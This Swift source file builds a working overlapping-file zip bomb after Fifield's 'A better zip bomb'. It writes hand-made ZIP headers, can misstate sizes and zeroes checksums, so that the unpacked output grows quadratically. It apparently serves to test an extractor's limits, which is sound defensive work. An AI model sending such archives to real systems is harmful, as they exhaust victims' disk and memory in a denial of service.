/// An archive whose files share their compressed bytes: David Fifield, "A better zip bomb", WOOT 2019.
///
/// ```
/// header 0 | quote of header 1 | header 1 | quote of header 2 | header 2 | … | kernel
/// ```
/// Each file unpacks to the headers of all that follow, quoted in blocks that are not compressed, and to the kernel, of
/// which there is one. What all unpack to grows by the square of the archive's length.
enum OverlappingZip {
    /// - Parameters:
    ///   - count: Files, `00000.txt` and so on.
    ///   - repeats: The kernel is an `A`, and 258 times this many more.
    ///   - statedSize: What each file says it unpacks to, by what it does.
    /// - Returns: The bytes. Checksums are 0: what unpacks that far was not bounded.
    static func make(count: Int, repeats: Int, statedSize: (Int) -> Int = { $0 }) -> [UInt8] {
        let names = (0..<count).map { number in
            Array((String(repeating: "0", count: 5 - "\(number)".utf8.count) + "\(number).txt").utf8)
        }
        let kernel = kernel(repeats: repeats)
        let headerLength = 30 + 9
        var commons: [[UInt8]] = []
        for number in 0..<count {
            let following = count - 1 - number
            let packed = following * (5 + headerLength) + kernel.count
            let size = statedSize(following * headerLength + 1 + 258 * repeats)
            // Version, flags, DEFLATE, time and date, checksum, both sizes, lengths of the name and of extras.
            commons.append(
                words([20, 0, 8, 0, 0x5A21, 0, 0]) + long(packed) + long(size) + words([9, 0]) + names[number])
        }
        var archive: [UInt8] = []
        var offsets: [Int] = []
        for number in 0..<count {
            if number > 0 { archive += [0] + words([headerLength, 0xFFFF - headerLength]) }
            offsets.append(archive.count)
            archive += [0x50, 0x4B, 3, 4] + commons[number]
        }
        archive += kernel
        let start = archive.count
        for number in 0..<count {
            let (common, name) = (commons[number].dropLast(9), names[number])
            archive += [0x50, 0x4B, 1, 2, 20, 3] + common + words([0, 0, 0]) + long(0o100644 << 16)
            archive += long(offsets[number]) + name
        }
        let length = archive.count - start
        return archive + [0x50, 0x4B, 5, 6, 0, 0, 0, 0] + words([count, count]) + long(length) + long(start) + [0, 0]
    }

    /// The last block of a stream, in the fixed code: a literal, and matches of the greatest length at distance 1.
    private static func kernel(repeats: Int) -> [UInt8] {
        var bytes: [UInt8] = []
        var filled = 0
        /// Appends bits, the first of `bits` first.
        func put(_ bits: [UInt8]) {
            for bit in bits {
                if filled % 8 == 0 { bytes.append(0) }
                bytes[bytes.count - 1] |= bit << UInt8(filled % 8)
                filled += 1
            }
        }
        put([1, 1, 0])
        put([0, 1, 1, 1, 0, 0, 0, 1])
        for _ in 0..<repeats { put([1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]) }
        put([0, 0, 0, 0, 0, 0, 0])
        return bytes
    }

    private static func words(_ values: [Int]) -> [UInt8] {
        values.flatMap { [UInt8(truncatingIfNeeded: $0), UInt8(truncatingIfNeeded: $0 >> 8)] }
    }

    private static func long(_ value: Int) -> [UInt8] { words([value & 0xFFFF, value >> 16]) }
}
